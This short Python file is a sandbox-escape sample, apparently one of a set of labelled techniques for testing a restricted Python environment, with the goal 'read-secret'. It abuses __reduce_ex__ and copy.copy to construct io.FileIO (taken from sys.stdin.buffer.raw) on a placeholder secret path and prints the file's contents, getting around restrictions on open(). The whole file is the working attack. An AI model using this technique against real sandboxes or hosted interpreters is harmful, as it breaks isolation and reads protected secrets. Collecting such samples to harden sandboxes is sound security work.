# technique: the same with FileIO
# goal: read-secret
# source: own analysis: attacker's C callables below a trusted frame
import copy
import sys


class Carrier:
    def __reduce_ex__(self, version):
        return type(sys.stdin.buffer.raw), ('@SECRET@',)


print(copy.copy(Carrier()).read())
